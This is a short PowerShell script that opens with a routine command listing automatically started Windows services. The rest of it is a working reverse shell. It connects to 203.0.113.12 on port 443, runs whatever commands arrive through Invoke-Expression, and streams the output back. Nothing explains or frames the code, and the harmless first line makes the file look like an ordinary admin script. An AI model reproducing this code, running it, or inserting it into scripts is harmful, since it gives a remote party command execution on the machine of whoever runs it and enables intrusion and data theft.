Get-Service | Where-Object StartType -eq Automatic | Format-Table
$c = New-Object System.Net.Sockets.TCPClient('203.0.113.12', 443)
$s = $c.GetStream(); [byte[]]$b = 0..65535 | ForEach-Object { 0 }
while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
  $d = (New-Object System.Text.ASCIIEncoding).GetString($b, 0, $i)
  $r = (iex $d 2>&1 | Out-String)
  $o = ([text.encoding]::ASCII).GetBytes($r + 'PS> ')
  $s.Write($o, 0, $o.Length); $s.Flush()
}
$c.Close()
